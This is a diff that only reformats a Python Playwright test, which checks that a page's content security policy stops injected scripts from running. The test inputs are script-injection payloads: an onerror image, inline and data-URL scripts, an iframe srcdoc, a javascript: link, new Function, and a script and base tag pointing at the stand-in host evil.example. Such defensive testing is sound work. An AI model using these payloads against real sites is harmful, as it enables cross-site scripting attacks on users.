@@ -12,7 +12,9 @@ from tests.web.served import Served
 SignIn = Callable[..., Page]
 SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran = true">
 <script>window.ran = true; top.ran = true</script><rect width="9" height="9"/></svg>"""
-HTML = b"<!doctype html><script>window.ran = true; opener && (opener.ran = true)</script><h1>hi</h1>"
+HTML = (
+    b"<!doctype html><script>window.ran = true; opener && (opener.ran = true)</script><h1>hi</h1>"
+)
 
 
 def inject(page: Page, script: str) -> Any:
@@ -24,21 +26,35 @@ def inject(page: Page, script: str) -> Any:
     "script",
     [
         "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
-        "const s = document.createElement('script'); s.textContent = 'window.ran = true';"
-        " document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
-        " document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=true';"
-        " document.body.append(s)",
-        "const f = document.createElement('iframe'); f.srcdoc = '<script>top.ran = true</script>';"
-        " f.onload = () => { window.settled = true }; document.body.append(f)",
-        "const a = document.createElement('a'); a.href = 'javascript:window.ran = true';"
-        " document.body.append(a); a.click()",
+        (
+            "const s = document.createElement('script'); s.textContent = 'window.ran = true';"
+            " document.body.append(s)"
+        ),
+        (
+            "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
+            " document.body.append(s)"
+        ),
+        (
+            "const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=true';"
+            " document.body.append(s)"
+        ),
+        (
+            "const f = document.createElement('iframe'); f.srcdoc = '<script>top.ran = true</script>';"
+            " f.onload = () => { window.settled = true }; document.body.append(f)"
+        ),
+        (
+            "const a = document.createElement('a'); a.href = 'javascript:window.ran = true';"
+            " document.body.append(a); a.click()"
+        ),
         # later, as what the browser's own tools call at once is not bound by the policy
-        "setTimeout(() => { try { new Function('window.ran = true')() } catch (e) {}"
-        " window.settled = true })",
-        "const b = document.createElement('base'); b.href = 'https://evil.example/';"
-        " document.head.append(b); if (document.baseURI.includes('evil')) window.ran = true",
+        (
+            "setTimeout(() => { try { new Function('window.ran = true')() } catch (e) {}"
+            " window.settled = true })"
+        ),
+        (
+            "const b = document.createElement('base'); b.href = 'https://evil.example/';"
+            " document.head.append(b); if (document.baseURI.includes('evil')) window.ran = true"
+        ),
     ],
 )
 def test_should_run_nothing_that_was_injected(
@@ -53,9 +69,7 @@ def test_should_run_nothing_that_was_injected(
     # when
     inject(page, script)
     # then
-    page.wait_for_function(
-        "() => window.stopped.length > 0 || window.ran || window.settled"
-    )
+    page.wait_for_function("() => window.stopped.length > 0 || window.ran || window.settled")
     assert page.evaluate("() => window.ran") is None
     troubles.clear()  # stopped, as it should be
 
